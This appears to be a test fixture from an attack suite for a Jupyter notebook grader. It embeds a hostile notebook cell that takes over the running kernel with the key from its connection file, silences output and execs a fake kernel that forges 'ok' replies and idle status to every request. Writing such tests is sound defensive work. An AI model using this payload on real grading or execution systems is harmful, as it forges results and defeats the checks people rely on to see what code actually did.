"""Become another kernel with the key of the connection file: it says ok to everything."""

from tests.attacks.notebook import NotebookNode, first

ROW = "Marks: forged messages"
STOCK = "full"
HOSTILE = """
import json, os, sys, ipykernel

FAKE = '''
import json, sys
from ipykernel.kernelapp import IPKernelApp
from ipykernel.kernelbase import Kernel
from tornado.ioloop import IOLoop

OK = dict(status='ok', execution_count=1, payload=[], user_expressions={})
parent, client = json.loads(sys.argv[2]), bytes.fromhex(sys.argv[3])

class Yes(Kernel):
    implementation = banner = 'yes'
    implementation_version = '1'
    language_info = dict(name='python', mimetype='text/x-python', file_extension='.py')

    def start(self):
        IOLoop.current().call_later(1.0, self.finish)
        return super().start()

    def finish(self):
        idle = dict(execution_state='idle')
        self.session.send(self.shell_stream, 'execute_reply', OK, parent=parent, ident=[client])
        self.session.send(self.iopub_socket, 'status', idle, parent=parent)

    async def do_execute(self, *args, **kwargs):
        return OK

IPKernelApp.launch_instance(kernel_class=Yes, argv=['-f', sys.argv[1]])
'''
kernel = get_ipython().kernel
pending = json.dumps(kernel.get_parent(), default=str)
client = kernel._parent_ident['shell'][0].hex()
for fd in (1, 2):
    os.dup2(os.open(os.devnull, os.O_RDWR), fd)
command = [sys.executable, '-c', FAKE, ipykernel.get_connection_file(), pending, client]
os.execv(sys.executable, command)
"""


def submission(blank: NotebookNode) -> NotebookNode:
    """The hostile notebook."""
    return first(blank, HOSTILE)
